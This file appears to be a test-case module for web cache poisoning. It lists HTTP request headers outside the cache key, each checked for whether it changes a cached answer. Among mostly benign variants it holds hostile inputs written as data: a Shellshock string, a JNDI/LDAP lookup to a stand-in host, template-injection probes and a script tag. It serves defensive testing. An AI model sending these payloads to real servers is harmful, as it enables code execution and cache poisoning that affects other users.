"""Does a field that is no part of the key change the answer?

Unkeyed input: Kettle, "Practical Web Cache Poisoning" (2018).
"""

from __future__ import annotations

from typing import Final

from tests.poison.case import COMMENTS, LIST, MISSING, TAG, Case, sent

CASES: Final[tuple[Case, ...]] = (
    sent("Accept that nothing meets", "Accept: application/xml"),
    sent("Accept that nothing meets, of a list", "Accept: application/xml", victim=LIST),
    sent("Accept of HTML", "Accept: text/html"),
    sent("Accept of a browser", "Accept: text/html,application/xhtml+xml,*/*;q=0.8", victim=TAG),
    sent("Accept with q=0", "Accept: application/json;q=0"),
    sent("Accept with a parameter", "Accept: application/json; indent=8"),
    sent("Accept of another version", "Accept: application/vnd.api+json;version=9"),
    sent("Accept that is no list", "Accept: ///;;,,\x7f"),
    sent("Accept, empty", "Accept:"),
    sent("Accept, twice", "Accept: application/json", "Accept: text/csv"),
    sent("Accept of a problem", "Accept: application/problem+json", victim=MISSING),
    sent("Accept-Language", "Accept-Language: xx, {evil};q=0.1"),
    sent("Accept-Charset", "Accept-Charset: utf-16, utf-7"),
    sent("Accept-Charset with q=0", "Accept-Charset: utf-8;q=0, *;q=0"),
    sent("Accept-Datetime", "Accept-Datetime: Mon, 01 Jan 2001 00:00:00 GMT"),
    sent("Accept-Patch and Accept-Post", "Accept-Patch: {evil}", "Accept-Post: {evil}"),
    sent("A-IM", "A-IM: feed, vcdiff"),
    sent("Prefer", "Prefer: return=minimal, respond-async"),
    sent("Cookie", "Cookie: sessionid={evil}; csrftoken={evil}"),
    sent("Cookie with meta characters", 'Cookie: a="{evil}; ;=;,\\"; =; $Version=1'),
    sent("Cookie, twice", "Cookie: a=1", "Cookie: theme={evil}"),
    sent("Cookie that names a language", "Cookie: django_language={evil}", victim=LIST),
    sent("Authorization that nobody has", "Authorization: Token {evil}"),
    sent("Authorization that nobody has, of a list", "Authorization: Token {evil}", victim=LIST),
    sent("Authorization without credentials", "Authorization: Token"),
    sent("Authorization of another kind", "Authorization: Basic ZXZpbDpldmls"),
    sent("Authorization, empty", "Authorization:"),
    sent("Proxy-Authorization", "Proxy-Authorization: Basic ZXZpbDpldmls"),
    sent("Origin", "Origin: https://{evil}.example"),
    sent("Origin, null", "Origin: null"),
    sent(
        "Origin of a preflight, sent with GET", "Origin: https://{evil}", "Access-Control-Request-Method: PUT"
    ),
    sent("Referer", "Referer: https://{evil}.example/"),
    sent("User-Agent", "User-Agent: <script>{evil}</script>"),
    sent("User-Agent, empty", "User-Agent:"),
    sent("User-Agent of a crawler", "User-Agent: Googlebot-{evil}"),
    sent("User-Agent of a device", "User-Agent: Mozilla/5.0 (iPhone) {evil}", "Sec-CH-UA-Mobile: ?1"),
    sent("From and Warning", "From: {evil}@example.com", 'Warning: 110 {evil} "stale"'),
    sent("X-Requested-With", "X-Requested-With: XMLHttpRequest"),
    sent("PJAX and HTMX", "X-PJAX: true", "HX-Request: true", "Turbo-Frame: {evil}"),
    sent("Content-Type of a GET", "Content-Type: application/x-www-form-urlencoded"),
    sent("Content-Type of a GET, multipart", "Content-Type: multipart/form-data; boundary={evil}"),
    sent("Content-Encoding of a GET", "Content-Encoding: gzip"),
    sent("Content-Language and Content-Location", "Content-Language: xx", "Content-Location: /{evil}"),
    sent("Cache-Control: no-cache", "Cache-Control: no-cache"),
    sent("Cache-Control: no-store", "Cache-Control: no-store"),
    sent("Cache-Control: only-if-cached", "Cache-Control: only-if-cached"),
    sent("Cache-Control: only-if-cached, of a list", "Cache-Control: only-if-cached", victim=COMMENTS),
    sent("Cache-Control: max-age=0", "Cache-Control: max-age=0"),
    sent("Cache-Control: max-stale", "Cache-Control: max-stale=999999999"),
    sent("Cache-Control: min-fresh", "Cache-Control: min-fresh=999999999"),
    sent("Cache-Control: no-transform", "Cache-Control: no-transform"),
    sent("Cache-Control of answers", "Cache-Control: public, max-age=31536000, s-maxage=31536000, immutable"),
    sent("Cache-Control, not understood", 'Cache-Control: max-age=-1, max-age="1", {evil}=\x01'),
    sent("Pragma", "Pragma: no-cache"),
    sent("Pragma: akamai-x-get-cache-key", "Pragma: akamai-x-get-cache-key, x-cache-{evil}"),
    sent("Expires and Age", "Expires: Mon, 01 Jan 2040 00:00:00 GMT", "Age: 99999999"),
    sent("Vary", "Vary: *"),
    sent("Set-Cookie", "Set-Cookie: {evil}=1"),
    sent("Location", "Location: https://{evil}.example/"),
    sent("Link", "Link: <https://{evil}.example/>; rel=preload"),
    sent("Status", "Status: 404 Not Found"),
    sent("Priority and Early-Data", "Priority: u=0, i", "Early-Data: 1"),
    sent("Save-Data and DPR", "Save-Data: on", "DPR: 3.0", "Viewport-Width: 1"),
    sent("Sec-Fetch of a document", "Sec-Fetch-Dest: document", "Sec-Fetch-Mode: navigate"),
    sent("Sec-GPC and DNT", "Sec-GPC: 1", "DNT: 1"),
    sent("Upgrade-Insecure-Requests", "Upgrade-Insecure-Requests: 1"),
    sent("traceparent and baggage", "traceparent: 00-{evil}", "baggage: a={evil}"),
    sent("X-Request-ID", "X-Request-ID: {evil}\t{evil}"),
    sent(
        "a field that would be an environment variable", "Proxy: http://{evil}.example", "HTTP_HOST: {evil}"
    ),
    sent("a field with an underscore", "X_Forwarded_Host: {evil}.example", "Accept_Encoding: br"),
    sent("a field of shell text", "X-A: () { :; }; echo {evil}"),
    sent("a field of template text", "X-A: ${jndi:ldap://{evil}} {{7*7}} <%= 1 %>"),
)
